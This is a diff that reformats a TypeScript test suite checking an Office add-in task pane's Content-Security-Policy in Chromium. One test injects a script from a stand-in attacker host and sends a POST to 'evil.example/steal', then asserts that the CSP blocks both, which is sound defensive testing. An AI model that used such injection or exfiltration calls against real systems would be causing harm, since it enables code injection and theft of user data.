@@ -16,7 +16,12 @@ const html = (): string => readFileSync(join(DIST, 'taskpane.html'), 'utf8');
 function policyOf(text: string): Map<string, string[]> {
   const content = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(text)?.[1];
   if (!content) throw new Error('dist/addin/taskpane.html has no CSP meta (stale build? npm run build)');
-  return new Map(content.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name!, sources]));
+  return new Map(
+    content
+      .split(';')
+      .map((d) => d.trim().split(/\s+/))
+      .map(([name, ...sources]) => [name!, sources]),
+  );
 }
 
 describe('task pane CSP in the built HTML', () => {
@@ -51,9 +56,13 @@ describe.skipIf(chromiumMissing !== null)('task pane under its CSP in Chromium',
 
   it('works: Office.js loads, functions register, the API answers, LAs fill in; no violation', async () => {
     expect(await page.evaluate(() => typeof (window as never as { Office?: unknown }).Office)).toBe('object');
-    expect(await page.evaluate(() => Object.keys((window as never as { CustomFunctions: { _association: { mappings: object } } }).CustomFunctions._association.mappings).length)).toBe(FUNCTIONS.length);
+    expect(
+      await page.evaluate(
+        () => Object.keys((window as never as { CustomFunctions: { _association: { mappings: object } } }).CustomFunctions._association.mappings).length,
+      ),
+    ).toBe(FUNCTIONS.length);
     await expect.poll(() => page.locator('#la-options option').count()).toBeGreaterThan(5);
-    expect(await page.evaluate(async () => ((await fetch('/api/health')).status))).toBe(200);
+    expect(await page.evaluate(async () => (await fetch('/api/health')).status)).toBe(200);
     expect(await violations(page)).toEqual([]);
   });
 
@@ -71,13 +80,22 @@ describe.skipIf(chromiumMissing !== null)('task pane under its CSP in Chromium',
       const foreign = document.createElement('script');
       foreign.src = 'https://evil.example/x.js';
       document.body.append(foreign);
-      const fetched = await fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked');
+      const fetched = await fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).then(
+        () => 'sent',
+        () => 'blocked',
+      );
       await new Promise((r) => setTimeout(r, 300));
       return { pwned: w.__pwned, fetched };
     });
     expect(outcome).toEqual({ pwned: [], fetched: 'blocked' });
     const seen = await violations(page);
-    expect(seen).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-elem inline/), expect.stringMatching(/^script-src-attr inline/),
-      'script-src-elem https://evil.example/x.js', 'connect-src https://evil.example/steal']));
+    expect(seen).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^script-src-elem inline/),
+        expect.stringMatching(/^script-src-attr inline/),
+        'script-src-elem https://evil.example/x.js',
+        'connect-src https://evil.example/steal',
+      ]),
+    );
   });
 });
